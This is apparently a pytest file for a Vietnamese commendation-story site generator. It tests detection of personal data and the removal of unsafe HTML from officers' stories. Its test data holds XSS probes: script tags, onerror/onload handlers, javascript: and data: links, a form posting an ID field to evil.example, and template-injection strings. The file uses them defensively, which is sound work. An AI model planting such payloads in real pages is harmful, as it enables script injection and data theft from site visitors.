"""Safe content (issue 8): personal data, raw HTML, escaping of front matter, Word/PDF artefacts.

Three layers, each tested with realistic Vietnamese text:

- the rules of `generator.core.safety` as units: every positive an officer could paste (ID numbers,
  mobiles in every usual spelling, personal e-mails, house numbers, dates of birth) is found under the
  right rule, and the everyday numbers of a commendation story (decision numbers, years, amounts,
  areas, percentages, the board's own hotline) are not;
- `exemplars check`: each finding is printed as `path:line: warning:` on the line where it is, in the
  body and in the front matter; per-rule severity (`privacy: {rule: error|off}`), `--strict` and the
  plugin's `strict: true` turn them into errors;
- a real `mkdocs build` of hostile stories: nothing executable reaches any page, feed or data file,
  officers' text is escaped (and not double-escaped) wherever it appears, allowed HTML stays.
"""

from __future__ import annotations

import html

import csv
import io
import json
import re
import shutil
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import urlsplit

import lxml.html
import pytest

from conftest import REPO, SiteProject, make_project, tiny_jpeg, valid_story
from generator.core.safety import SafetyOptions, personal_findings, sanitize_html, scan_html, scan_personal_data
from generator.core.text import curly_quotes
from harness import mkdocs_build

# -- personal data: the rules as units ------------------------------------------------------------

POSITIVES: list[tuple[str, str]] = [
    # 12-digit citizen ID (CCCD) and 9-digit old ID (CMND), as officers copy them from forms.
    ("id_number", "Ông Hòa (CCCD số 051075001234) nhận hỗ trợ."),
    ("id_number", "Căn cước công dân: 051 075 001 234, cấp ngày 12/3/2021."),
    ("id_number", "CCCD 051.075.001.234 do Cục Cảnh sát cấp."),
    ("id_number", "CMND số 212345678 cấp tại Quảng Ngãi."),
    ("id_number", "Số CMND: 212 345 678."),
    # Mobiles: 0 or +84, grouped by spaces, dots or dashes, or not at all.
    ("phone", "Liên hệ anh Dũng: 0905 123 456."),
    ("phone", "Điện thoại: 0905.123.456"),
    ("phone", "Gọi +84 905 123 456 để đặt hàng."),
    ("phone", "Zalo 84905123456 của chị Lan."),
    ("phone", "SĐT 0905123456 (chủ hộ)."),
    ("phone", "Số máy 090 512 3456."),
    ("phone", "Hotline của hợp tác xã: 0335-123-456."),
    ("phone", "Điện thoại (+84) 905 123 456."),
    # Personal mailboxes (not an official .gov.vn one).
    ("email", "Thư góp ý gửi nguyenvana@gmail.com."),
    ("email", "E-mail: hoa.tran@yahoo.com.vn"),
    ("email", "Liên hệ Le.Thi.Mai@GMAIL.COM để đặt mua."),
    ("email", "hoặc anh.hung@outlook.com"),
    # House-number level addresses.
    ("address", "Gia đình ông ở số nhà 12, thôn Phú Long."),
    ("address", "Cửa hàng tại nhà số 45 đường Lê Lợi."),
    ("address", "Nhà chị Mai ở kiệt 12 Phan Chu Trinh."),
    ("address", "Bà sống ở hẻm 3/4 Nguyễn Nghiêm."),
    ("address", "Cơ sở may đặt tại số 45 đường Lê Lợi."),
    # Dates of birth.
    ("birth_date", "Ông sinh ngày 12/3/1975 tại Bình Sơn."),
    ("birth_date", "Ngày sinh: 12 tháng 3 năm 1975."),
    ("birth_date", "Ngày sinh: 12/03/1975"),
    ("birth_date", "Bà sinh ngày 5 tháng 9 năm 1960 trong một gia đình nghèo."),
    ("birth_date", "Sinh ngày: 12/3/1975, quê Mộ Đức."),
]

NEGATIVES: list[str] = [
    "Được tặng Bằng khen theo Quyết định số 1234/QĐ-UBND ngày 19/5/2023 của UBND tỉnh.",
    "Quyết định số 567/QĐ-TTg của Thủ tướng Chính phủ.",
    "Huân chương Lao động hạng Ba (Quyết định số 1234/QĐ-CTN ngày 12/3/2023).",
    "Kế hoạch số 123/KH-UBND; Nghị định 13/2023/NĐ-CP; Thông tư 12/2019/TT-BNV.",
    "Quyết định số 12 của Ban Thường vụ.",
    "Năm 2023, hợp tác xã có 300 xã viên.",
    "Ngày 19/5/2023 là ngày kỷ niệm.",
    "19/5/2023",
    "Tổng vốn 450.000.000 đồng, trong đó Nhà nước hỗ trợ 1,5 tỷ đồng.",
    "Doanh thu 1.234.567.890 đồng; thu nhập 120 triệu đồng/năm.",
    "Ông hiến 12.000 m² đất và 500 m2 vườn.",
    "Trồng 12 ha rừng, 15,5 ha keo lai.",
    "Tỷ lệ hộ nghèo giảm còn 2,5%; 95% hộ dùng nước sạch.",
    "Trường có 2.500 học sinh, 120 giáo viên.",
    "Giai đoạn 2021 - 2025 và 2026-2030.",
    "Ông sinh năm 1975, là con thứ ba trong gia đình.",
    "Năm sinh: 1975.",
    "Chi bộ sinh hoạt ngày 12/3/2023 tại nhà văn hóa thôn.",
    "Thư gửi thiduakhenthuong@quangngai.gov.vn hoặc sogddt@quangngai.edu.vn.",
    "Nhóm Zalo “Nông dân giỏi Bình Sơn” có hơn 300 thành viên.",
    "Đề án 06; Quốc lộ 1A, km 1045; thôn 3, tổ 12, tổ dân phố số 3.",
    "Nhà văn hóa số 3 của xã.",
    "Điện thoại cơ quan: 0255 3 822 123.",
]


def _rules(text: str, options: SafetyOptions | None = None) -> list[str]:
    return [rule for rule, _ in personal_findings(text, options or SafetyOptions())]


@pytest.mark.parametrize(("rule", "text"), POSITIVES, ids=[f"{rule}-{i}" for i, (rule, _) in enumerate(POSITIVES)])
def test_personal_data_is_found_under_its_rule(rule: str, text: str) -> None:
    assert _rules(text) == [rule], f"{text!r}: expected exactly one {rule} finding"


@pytest.mark.parametrize("text", NEGATIVES, ids=[f"negative-{i}" for i in range(len(NEGATIVES))])
def test_everyday_numbers_are_not_personal_data(text: str) -> None:
    assert personal_findings(text, SafetyOptions()) == []


BOARD_HOTLINE = "0905 000 111"
BOARD_LANDLINE = "0255 3 800 000"
BOARD_MAILBOX = "bantdkt.quangngai@gmail.com"


@pytest.mark.parametrize(
    "text",
    [
        "Đường dây nóng của Ban: 0905 000 111.",
        "Đường dây nóng: 0905.000.111",
        "Đường dây nóng: 0905000111",
        "Đường dây nóng: +84 905 000 111",
        "Điện thoại Ban Thi đua: 0255 3 800 000.",
        "Hộp thư của Ban: bantdkt.quangngai@gmail.com",
    ],
    ids=["hotline", "hotline-dots", "hotline-bare", "hotline-+84", "landline", "mailbox"],
)
def test_allowed_official_contacts_are_not_reported_in_any_spelling(text: str) -> None:
    allowed = SafetyOptions(allowed_numbers=(BOARD_HOTLINE, BOARD_LANDLINE, BOARD_MAILBOX))
    assert personal_findings(text, allowed) == []


def test_the_allowlist_only_covers_the_listed_numbers() -> None:
    allowed = SafetyOptions(allowed_numbers=(BOARD_HOTLINE, BOARD_MAILBOX))
    assert _rules("Đường dây nóng: 0905 000 111", SafetyOptions()) == ["phone"]  # it would be reported
    assert _rules("Anh Dũng: 0905 000 112", allowed) == ["phone"]
    assert _rules("Thư: bantdkt.quangngai@yahoo.com", allowed) == ["email"]


def test_severity_per_rule_and_off() -> None:
    lines = [(3, "CCCD 051075001234, điện thoại 0905 123 456, sinh ngày 12/3/1975.")]
    found = {rule: severity for _, rule, severity, _ in scan_personal_data(lines, SafetyOptions())}
    assert found == {"id_number": "warning", "phone": "warning", "birth_date": "warning"}
    options = SafetyOptions(privacy={"id_number": "error", "phone": "off"})
    found = {rule: severity for _, rule, severity, _ in scan_personal_data(lines, options)}
    assert found == {"id_number": "error", "birth_date": "warning"}


def test_reported_values_are_masked() -> None:
    """CI logs are public too: the message must not repeat the whole number."""
    [(_, _, _, value)] = scan_personal_data([(1, "CCCD 051075001234")], SafetyOptions())
    assert "051075001234" not in value and "…" in value


# -- personal data through `exemplars check` ---------------------------------------------------------

PROBLEM = re.compile(r"^(?P<path>\S+?):(?P<line>\d+): (?P<severity>error|warning): (?P<message>.*)$")
# The English messages of each rule (`--lang en`).
RULE_WORDS = {
    "id_number": "citizen ID number",
    "phone": "mobile number",
    "email": "personal e-mail",
    "address": "home address",
    "birth_date": "date of birth",
}


def _problems(stdout: str) -> list[tuple[str, int, str, str]]:
    found = []
    for text in stdout.splitlines():
        match = PROBLEM.match(text)
        assert match, f"not a path:line: severity: message line: {text!r}"
        found.append((match["path"], int(match["line"]), match["severity"], match["message"]))
    return found


def _privacy(stdout: str) -> set[tuple[str, int, str, str]]:
    """(path, line, severity, rule) of the personal-data findings in `check --lang en` output."""
    out = set()
    for path, line, severity, message in _problems(stdout):
        rules = [rule for rule, words in RULE_WORDS.items() if words in message]
        if rules:
            out.add((path, line, severity, rules[0]))
    return out


def _line_of(path: Path, needle: str) -> int:
    lines = path.read_text(encoding="utf-8").split("\n")
    hits = [i + 1 for i, text in enumerate(lines) if needle in text]
    assert len(hits) == 1, f"{needle!r} is on lines {hits}"
    return hits[0]


def _yml(options: str = "", site_url: str = "") -> str:
    """A minimal mkdocs.yml with `options` (YAML, indented 6) under the exemplars plugin."""
    head = "site_name: Gương sáng thử nghiệm\n" + (f"site_url: {site_url}\n" if site_url else "")
    plugin = "  - exemplars\n" if not options else "  - exemplars:\n" + "".join(f"      {line}\n" for line in options.splitlines())
    return head + "docs_dir: content\ntheme:\n  name: material\n  language: vi\n  font: false\nplugins:\n" + plugin


def test_every_positive_is_reported_on_its_body_line(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site")
    body = "Đoạn mở đầu.\n\n" + "\n\n".join(text for _, text in POSITIVES) + "\n"
    path = project.add_story("2023/ca-nhan.md", valid_story(body=body))
    result = project.check("--lang", "en")
    assert result.exit_code == 0, result.output  # warnings only
    found = _privacy(result.stdout)
    expected = {("exemplars/2023/ca-nhan.md", _line_of(path, text), "warning", rule) for rule, text in POSITIVES}
    assert {"missing": sorted(expected - found), "unexpected": sorted(found - expected)} == {"missing": [], "unexpected": []}


def test_no_negative_is_reported_in_a_body(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site")
    body = "\n\n".join(NEGATIVES) + "\n"
    project.add_story("2023/so-lieu.md", valid_story(body=body))
    result = project.check("--lang", "en")
    assert (result.exit_code, result.stdout) == (0, "")


FRONT_MATTER_CASES = {
    # key: (value, marker to find its line, rule)
    "summary": ("Ông Hòa, sinh ngày 12/3/1975, hiến đất làm đường.", "summary:", "birth_date"),
    "author": ("Nguyễn Văn Tư, ĐT 0905 123 456", "author:", "phone"),
    "subject": ("Ông Nguyễn Văn Hòa (CCCD 051075001234)", "subject:", "id_number"),
}


def test_front_matter_values_are_scanned_with_their_line(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site")
    overrides = {key: value for key, (value, _, _) in FRONT_MATTER_CASES.items()}
    overrides["tags"] = ["nông thôn mới", "liên hệ nguyenvana@gmail.com"]
    overrides["awards"] = [{"name": "Bằng khen của Chủ tịch UBND tỉnh", "year": "2023", "decision": "1234/QĐ-UBND"}]
    overrides["image"] = {"src": "anh.jpg", "alt": "Ông Hòa trước nhà", "caption": "Nhà ông Hòa ở kiệt 12 Phan Chu Trinh"}
    project.add_file("exemplars/2023/anh.jpg", tiny_jpeg())
    path = project.add_story("2023/fm.md", valid_story(body="Nội dung ngắn.\n", **overrides))
    result = project.check("--lang", "en")
    assert result.exit_code == 0, result.output
    expected = {("exemplars/2023/fm.md", _line_of(path, marker), "warning", rule) for _, marker, rule in FRONT_MATTER_CASES.values()}
    expected.add(("exemplars/2023/fm.md", _line_of(path, "nguyenvana@gmail.com"), "warning", "email"))
    expected.add(("exemplars/2023/fm.md", _line_of(path, "kiệt 12"), "warning", "address"))
    assert _privacy(result.stdout) == expected  # and the award's decision number is not reported


@pytest.mark.parametrize(
    ("label", "value", "rule"),
    [
        # Typed on a Mac (NFD) or pasted from Word (zero-width, soft hyphen, no-break space): the same
        # personal data, invisible differences. The body is cleaned before the scan; values must be too.
        ("NFD summary", unicodedata.normalize("NFD", "Ông Hòa sinh ngày 12/3/1975 tại Bình Sơn."), "birth_date"),
        ("zero-width spaces in a phone", "Liên hệ 0905\u200b123\u200b456", "phone"),
        ("soft hyphen in an ID number", "CCCD 051075\u00ad001234", "id_number"),
        ("no-break space in a birth date", "Ông sinh\u00a0ngày 12/3/1975.", "birth_date"),
    ],
    ids=["nfd", "zero-width", "soft-hyphen", "nbsp"],
)
def test_pasted_artefacts_do_not_hide_personal_data_in_front_matter(label: str, value: str, rule: str, tmp_path: Path) -> None:
    project = make_project(tmp_path / "site")
    path = project.add_story("2023/dan.md", valid_story(body="Nội dung ngắn.\n", summary=value))
    result = project.check("--lang", "en")
    assert _privacy(result.stdout) == {("exemplars/2023/dan.md", _line_of(path, "summary:"), "warning", rule)}, label


@pytest.mark.parametrize(
    ("label", "text", "rule"),
    [
        ("no-break space from Word", "Ông sinh\u00a0ngày 12/3/1975 tại Bình Sơn.", "birth_date"),
        ("NFD from a Mac", unicodedata.normalize("NFD", "Bà sinh ngày 5 tháng 9 năm 1960."), "birth_date"),
        ("zero-width joiners", "Gọi 0905\u200d123\u200d456.", "phone"),
        ("soft hyphens", "Số CCCD: 051\u00ad075\u00ad001\u00ad234.", "id_number"),
    ],
    ids=["nbsp", "nfd", "zero-width", "soft-hyphen"],
)
def test_pasted_artefacts_do_not_hide_personal_data_in_the_body(label: str, text: str, rule: str, tmp_path: Path) -> None:
    project = make_project(tmp_path / "site")
    path = project.add_story("2023/than.md", valid_story(body=f"Đoạn đầu.\n\n{text}\n\nĐoạn cuối.\n"))
    result = project.check("--lang", "en")
    line = _line_of(path, text)
    assert _privacy(result.stdout) == {("exemplars/2023/than.md", line, "warning", rule)}, label


def test_allowlist_in_mkdocs_yml(tmp_path: Path) -> None:
    options = f'privacy_allow: ["{BOARD_HOTLINE}", "{BOARD_LANDLINE}", "{BOARD_MAILBOX}"]'
    project = make_project(tmp_path / "site", _yml(options))
    body = (
        f"Mọi ý kiến xin gửi Ban Thi đua - Khen thưởng: {BOARD_LANDLINE}, đường dây nóng 0905.000.111,\n"
        f"hộp thư {BOARD_MAILBOX}.\n\nLiên hệ anh Dũng: 0905 123 456.\n"
    )
    path = project.add_story("2023/ban.md", valid_story(body=body))
    result = project.check("--lang", "en")
    assert _privacy(result.stdout) == {("exemplars/2023/ban.md", _line_of(path, "anh Dũng"), "warning", "phone")}


def _one_of_each(project: SiteProject) -> Path:
    body = (
        "Đoạn đầu.\n\nCCCD 051075001234.\n\nĐiện thoại 0905 123 456.\n\nThư: nguyenvana@gmail.com\n\n"
        "Nhà số 45 đường Lê Lợi.\n\nSinh ngày 12/3/1975.\n\n<span onclick=\"x()\">chữ</span>\n"
    )
    return project.add_story("2023/moi-thu.md", valid_story(body=body))


def test_default_severity_is_warning_and_exit_zero(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site")
    _one_of_each(project)
    result = project.check("--lang", "en")
    problems = _problems(result.stdout)
    assert result.exit_code == 0
    assert len(problems) == 6 and {p[2] for p in problems} == {"warning"}
    assert {rule for *_, rule in _privacy(result.stdout)} == set(RULE_WORDS)


def test_per_rule_error_and_off(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site", _yml('privacy:\n  id_number: error\n  email: "off"'))
    path = _one_of_each(project)
    result = project.check("--lang", "en")
    assert result.exit_code == 1
    found = _privacy(result.stdout)
    by_rule = {rule: (line, severity) for _, line, severity, rule in found}
    assert by_rule["id_number"] == (_line_of(path, "CCCD"), "error")
    assert "email" not in by_rule
    assert {by_rule[r][1] for r in ("phone", "address", "birth_date")} == {"warning"}


def test_privacy_off_can_be_written_as_documented(tmp_path: Path) -> None:
    """`privacy: {email: off}` as the option is documented: YAML 1.1 reads a bare `off` as false."""
    project = make_project(tmp_path / "site", _yml("privacy:\n  email: off"))
    _one_of_each(project)
    result = project.check("--lang", "en")
    assert result.exit_code == 0, result.output
    assert "email" not in {rule for *_, rule in _privacy(result.stdout)}


def test_strict_flag_turns_every_warning_into_an_error(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site")
    _one_of_each(project)
    result = project.check("--lang", "en", "--strict")
    problems = _problems(result.stdout)
    assert result.exit_code == 1
    assert len(problems) == 6 and {p[2] for p in problems} == {"error"}


def test_strict_option_in_mkdocs_yml_applies_to_check(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site", _yml("strict: true"))
    _one_of_each(project)
    result = project.check("--lang", "en")
    assert result.exit_code == 1
    assert {p[2] for p in _problems(result.stdout)} == {"error"}


def test_unknown_privacy_rule_is_a_configuration_error(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site", _yml("privacy:\n  cccd: error"))
    _one_of_each(project)
    result = project.check()
    assert result.exit_code == 2
    assert "cccd" in result.output


def test_strict_plugin_option_stops_the_build(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site", _yml("strict: true"))
    project.add_story("2023/so.md", valid_story(body="Liên hệ chị Lan: 0905 123 456.\n"))
    site = tmp_path / "out"
    run = mkdocs_build(project.root, site)
    assert run.returncode != 0
    assert "exemplars/2023/so.md:" in run.stderr and "Traceback" not in run.stderr
    assert not (site / "index.html").exists()


# -- raw HTML: what check reports ----------------------------------------------------------------------

HOSTILE_HTML = {
    # marker: (line of Markdown, words of the expected message in English)
    "script": ('<script>alert("body-script")</script>', "tag <script>"),
    "style": ("<style>body { display: none }</style>", "tag <style>"),
    "onclick": ('<span onclick="alert(\'onclick\')">bấm vào đây</span>', '"onclick"'),
    "onerror": ('<img src="khong-co.png" onerror="alert(\'onerror\')" alt="ảnh">', '"onerror"'),
    "javascript-href": ("<a href=\"javascript:alert('js-href')\">liên kết</a>", "javascript:"),
    "vbscript-href": ('<a href="vbscript:msgbox(1)">vb</a>', "vbscript:"),
    "data-href": ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">dữ liệu</a>', "data:"),
    "form": ('<form action="https://evil.example/thu"><input name="cccd"><button>Gửi</button></form>', "tag <form>"),
    # Alone on its line an iframe is a pasted video (tests/test_media.py); inside text it is removed.
    "iframe": ('Xem thêm <iframe src="https://evil.example/khung"></iframe> ở đây.', "<iframe>"),
    "object": ('<object data="https://evil.example/x.swf"></object>', "tag <object>"),
    "embed": ('<embed src="https://evil.example/x.swf">', "tag <embed>"),
    "markdown-js-link": ("[Bấm vào đây](javascript:alert(1))", "javascript:"),
}
VIDEO = '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Video phóng sự"></iframe>'


def _hostile_body() -> str:
    lines = ["Đoạn đầu có <mark>chữ đánh dấu</mark> và <abbr title=\"Ủy ban nhân dân\">UBND</abbr>.", ""]
    for text, _ in HOSTILE_HTML.values():
        lines += [text, ""]
    lines += [VIDEO, "", "[Cổng thông tin tỉnh](https://www.quangngai.gov.vn/)", ""]
    lines += ["| Năm | Số hộ |", "|---|---|", "| 2023 | 40 |", ""]
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("video_hosts", [(), ("www.youtube-nocookie.com",)], ids=["no video hosts", "youtube-nocookie allowed"])
def test_check_reports_each_hostile_construct_on_its_line(video_hosts: tuple[str, ...], tmp_path: Path) -> None:
    options = f"video_hosts: [{', '.join(video_hosts)}]" if video_hosts else ""
    project = make_project(tmp_path / "site", _yml(options))
    path = project.add_story("2023/html.md", valid_story(body=_hostile_body()))
    result = project.check("--lang", "en")
    # A pasted video from a host the site does not allow cannot be shown at all: an error.
    assert result.exit_code == (0 if video_hosts else 1), result.output
    problems = _problems(result.stdout)
    for marker, (text, words) in HOSTILE_HTML.items():
        line = _line_of(path, text)
        here = [m for p, n, s, m in problems if (p, n, s) == ("exemplars/2023/html.md", line, "warning")]
        assert any(words in m for m in here), f"{marker}: no warning naming {words!r} on line {line}: {here}"
    video_line = _line_of(path, VIDEO)
    video_problems = [(s, m) for _, n, s, m in problems if n == video_line]
    assert [s for s, _ in video_problems] == ([] if video_hosts else ["error"]), video_problems
    allowed_lines = {_line_of(path, "<mark>"), _line_of(path, "[Cổng thông tin tỉnh]"), _line_of(path, "| 2023 |")}
    assert not [p for p in problems if p[1] in allowed_lines], "allowed HTML was reported"


def test_strict_makes_removed_html_an_error(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site")
    project.add_story("2023/html.md", valid_story(body='<script>alert(1)</script>\n'))
    result = project.check("--strict")
    assert result.exit_code == 1
    assert re.match(r"exemplars/2023/html\.md:\d+: error: ", result.stdout)


def test_a_plain_http_or_foreign_iframe_is_an_error_even_with_video_hosts(tmp_path: Path) -> None:
    project = make_project(tmp_path / "site", _yml("video_hosts: [www.youtube-nocookie.com]"))
    body = (
        '<iframe src="http://www.youtube-nocookie.com/embed/a"></iframe>\n\n'
        '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/a"></iframe>\n'
    )
    path = project.add_story("2023/khung.md", valid_story(body=body))
    lines = {(n, s) for _, n, s, m in _problems(project.check("--lang", "en").stdout) if "video_hosts" in m}
    assert lines == {(_line_of(path, "http://www"), "error"), (_line_of(path, "evil.example"), "error")}


# -- raw HTML: what the sanitiser keeps, as a unit ----------------------------------------------------


def test_sanitiser_keeps_our_picture_and_figure_markup() -> None:
    html = (
        '<figure class="gs-figure"><picture><source type="image/webp" srcset="a-480.webp 480w, a-960.webp 960w" '
        'sizes="100vw"><img src="a-960.jpg" alt="Ông Hòa" width="960" height="640" loading="lazy" decoding="async">'
        "</picture><figcaption>Ông Hòa bên vườn keo</figcaption></figure>"
    )
    cleaned = sanitize_html(html, SafetyOptions())
    doc = lxml.html.fragment_fromstring(cleaned, create_parent="div")
    img = doc.xpath("//img")[0]
    assert {k: img.get(k) for k in ("src", "alt", "width", "height", "loading", "decoding")} == {
        "src": "a-960.jpg", "alt": "Ông Hòa", "width": "960", "height": "640", "loading": "lazy", "decoding": "async",
    }  # fmt: skip
    assert doc.xpath("//picture/source/@srcset") == ["a-480.webp 480w, a-960.webp 960w"]
    assert doc.xpath("//figure/figcaption/text()") == ["Ông Hòa bên vườn keo"]


def test_scan_and_sanitiser_agree_on_an_allowed_line() -> None:
    """A line the scan passes is left whole by the sanitiser (no silent removal)."""
    line = '<p>Xem <a href="https://www.quangngai.gov.vn/" title="Cổng">cổng tỉnh</a> và <mark>chú ý</mark>.</p>'
    assert scan_html([(1, line)], SafetyOptions()) == []
    cleaned = sanitize_html(line, SafetyOptions())
    assert 'href="https://www.quangngai.gov.vn/"' in cleaned and "<mark>chú ý</mark>" in cleaned


# -- a real build of hostile stories -----------------------------------------------------------------

HOSTILE_TITLE = 'Ông <script>alert("xss-title")</script> & "Hòa" {{ config.site_name }} {% raw %}'
HOSTILE_SUBJECT = 'Ông <b onmouseover="alert(\'xss-subject\')">Hòa</b> & \'con\' {{ 7*7 }}'
HOSTILE_SUMMARY = "<img src=x onerror=alert('xss-summary')> Tóm tắt có \"ngoặc\" & {{ page.title }} </textarea>"
# Titles, subjects and summaries are shown with typographic quotes (“ ”); the file keeps what was typed.
SHOWN_TITLE, SHOWN_SUBJECT, SHOWN_SUMMARY = (curly_quotes(v) for v in (HOSTILE_TITLE, HOSTILE_SUBJECT, HOSTILE_SUMMARY))
HOSTILE_CAPTION = '<svg onload=alert("xss-caption")> Ông Hòa & vườn keo'
HOSTILE_TAG = "<script>alert('xss-tag')</script>"
NOMINEE_TITLE = 'Đề cử <script>alert("xss-nominee")</script> & {{ x }}'
MARKERS = ("xss-title", "xss-subject", "xss-summary", "xss-caption", "xss-tag", "xss-nominee")

# Word and PDF artefacts: soft hyphens, zero-width space/joiner/non-joiner, word joiner, BOM, no-break
# spaces, smart quotes (kept), and NFD (decomposed) Vietnamese from a Mac.
INVISIBLE = "\u00ad\u200b\u200c\u200d\u2060\ufeff"
WORD_TITLE_CLEAN = "Chị Lê Thị Thủy: “người giữ lửa” nông thôn mới"
WORD_TITLE = unicodedata.normalize("NFD", "Chị Lê\u00a0Thị Thủy:\u00a0“người giữ\u00ad lửa” nông\u200b thôn\u200d mới")
WORD_SUMMARY_CLEAN = "Chị Thủy vận động bà con hiến đất, làm đường bê tông."
WORD_SUMMARY = "Chị\u00a0Thủy vận\u00ad động bà\u200c con hiến\u2060 đất, làm đường bê\ufeff tông."
WORD_BODY_WORDS = ["Thủy", "thôn", "hiến", "Nghĩa", "đường"]
WORD_BODY = unicodedata.normalize(
    "NFD",
    "Chị Thủy\u00a0đã vận\u00ad động 40 hộ dân ở thôn\u200b Phú Long hiến\u200d đất.\n\n"
    "Bà con xã Nghĩa\u00a0Kỳ gọi chị là “người giữ lửa” của con đường mới.\n",
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The repository's site settings with hostile stories, built once: (project root, site)."""
    root = tmp_path_factory.mktemp("hostile") / "p"
    root.mkdir()
    for name in ("content", "theme_overrides"):
        shutil.copytree(REPO / name, root / name)
    yml = (REPO / "mkdocs.yml").read_text(encoding="utf-8")
    assert "  - exemplars:\n" in yml
    yml = yml.replace("  - exemplars:\n", "  - exemplars:\n      video_hosts: [www.youtube-nocookie.com]\n", 1)
    (root / "mkdocs.yml").write_text(yml, encoding="utf-8")
    project = SiteProject(root)
    project.add_file("exemplars/2023/bia.jpg", tiny_jpeg(640, 480))
    project.add_file("exemplars/2023/than.jpg", tiny_jpeg(480, 320))
    body = _hostile_body() + "\n![Ông Hòa bên vườn keo](than.jpg)\n"
    project.add_story("2023/html.md", valid_story(body=body, title="Bài có HTML dán vào", slug="bai-html"))
    project.add_story(
        "2023/tieu-de.md",
        valid_story(
            body="Nội dung bình thường.\n",
            title=HOSTILE_TITLE,
            subject=HOSTILE_SUBJECT,
            summary=HOSTILE_SUMMARY,
            tags=["nông thôn mới", HOSTILE_TAG],
            image={"src": "bia.jpg", "alt": HOSTILE_CAPTION, "caption": HOSTILE_CAPTION, "credit": "Văn Tư & <i>ảnh</i>"},
            awards=[{"name": 'Bằng khen "Người tốt" <script>alert("xss-award")</script>', "year": "2023", "decision": "1234/QĐ-UBND"}],
            slug="tieu-de-doc-hai",
            featured="true",
            date="20/05/2023",
        ),
    )
    project.add_story(
        "2023/word.md",
        valid_story(body=WORD_BODY, title=WORD_TITLE, summary=WORD_SUMMARY, subject=unicodedata.normalize("NFD", "Chị Lê\u00ad Thị Thủy"),
                    slug="dan-tu-word", district="Huyện Tư\u00a0Nghĩa", unit="UBND huyện Tư Nghĩa", date="21/05/2023"),  # fmt: skip
    )
    project.add_story(
        "2023/de-cu.md",
        valid_story(body="Đề cử.\n", title=NOMINEE_TITLE, slug="de-cu-doc-hai", status="nominee", consultation_until="30/12/2026"),
    )
    site = root / "out"
    run = mkdocs_build(root, site)
    assert run.returncode == 0, run.stderr[-3000:]
    return root, site


def _html(site: Path, url: str) -> lxml.html.HtmlElement:
    return lxml.html.fromstring((site / url / "index.html").read_bytes())


def _story_body(site: Path, slug: str) -> lxml.html.HtmlElement:
    [body] = _html(site, f"guong-dien-hinh/{slug}").xpath('//div[contains(@class, "gs-story__body")]')
    return body


DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")


def test_story_body_has_nothing_executable_left(hostile) -> None:
    _, site = hostile
    body = _story_body(site, "bai-html")
    for tag in ("script", "style", "form", "input", "button", "object", "embed", "svg", "math", "base", "meta", "link"):
        assert not body.xpath(f".//{tag}"), f"<{tag}> survived in the story body"
    for element in body.iter():
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"event handler {name}={value!r} on <{element.tag}>"
            if name in ("href", "src", "srcset", "action", "formaction", "data", "xlink:href"):
                squashed = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not squashed.startswith(DANGEROUS_SCHEMES), f"<{element.tag} {name}={value!r}>"
    text = lxml.html.tostring(body, encoding="unicode")
    assert "alert(" not in text, "script text survived as markup or text"
    assert "evil.example" not in text


def test_no_iframe_is_left_in_a_story_the_allowed_video_waits_for_a_click(hostile) -> None:
    """A foreign iframe is removed, not kept as an empty frame; the allowed video is a poster whose
    click loads its player (tests/test_media.py)."""
    _, site = hostile
    body = _story_body(site, "bai-html")
    assert body.xpath(".//iframe") == []
    players = body.xpath(".//a/@data-gs-player")
    assert [urlsplit(p).hostname for p in players] == ["www.youtube-nocookie.com"], players
    assert players[0].startswith("https://")


def test_allowed_html_stays_in_the_story(hostile) -> None:
    _, site = hostile
    body = _story_body(site, "bai-html")
    assert body.xpath(".//mark/text()") == ["chữ đánh dấu"]
    assert body.xpath(".//abbr/@title") == ["Ủy ban nhân dân"]
    assert [c.text_content().strip() for c in body.xpath(".//table//td")] == ["2023", "40"]
    [figure] = body.xpath(".//figure[contains(@class, 'gs-figure')]")
    [img] = figure.xpath(".//picture//img")  # libxml2 nests <img> in the (void) <source>
    assert img.get("alt") == "Ông Hòa bên vườn keo" and img.get("width") and img.get("height")
    assert figure.xpath(".//picture/source/@srcset")


def test_external_links_get_noopener_noreferrer(hostile) -> None:
    _, site = hostile
    links = [a for a in _story_body(site, "bai-html").xpath(".//a[@href]") if urlsplit(a.get("href")).scheme in ("http", "https")]
    assert links, "the link to the provincial portal is gone"
    for a in links:
        rel = (a.get("rel") or "").split()
        assert "noopener" in rel and "noreferrer" in rel, lxml.html.tostring(a, encoding="unicode")


def _site_files(site: Path) -> list[Path]:
    return [
        p for p in sorted(site.rglob("*"))
        if p.is_file() and p.suffix in (".html", ".xml", ".json", ".csv", ".txt")
        and not p.relative_to(site).parts[0] in ("pagefind", "assets", "search")
    ]  # fmt: skip


def test_no_markup_from_front_matter_anywhere_in_the_site(hostile) -> None:
    """Every HTML page parsed: officers' text never becomes an element or an attribute."""
    _, site = hostile
    pages = [p for p in _site_files(site) if p.suffix == ".html"]
    assert len(pages) > 50
    for page in pages:
        doc = lxml.html.fromstring(page.read_bytes())
        where = page.relative_to(site).as_posix()
        for script in doc.xpath("//script"):
            if script.get("type") == "application/ld+json":
                # Structured data holds the officer's text as JSON strings (never run); it must
                # still be one whole JSON value, so nothing in it closed the element early.
                json.loads(script.text)
                continue
            assert not any(m in (script.text or "") for m in MARKERS), f"{where}: officer's <script> runs"
        for element in doc.iter():
            if not isinstance(element.tag, str):
                continue
            for name, value in element.attrib.items():
                if name.lower().startswith("on"):
                    assert not any(m in value for m in MARKERS), f"{where}: <{element.tag} {name}> from front matter"
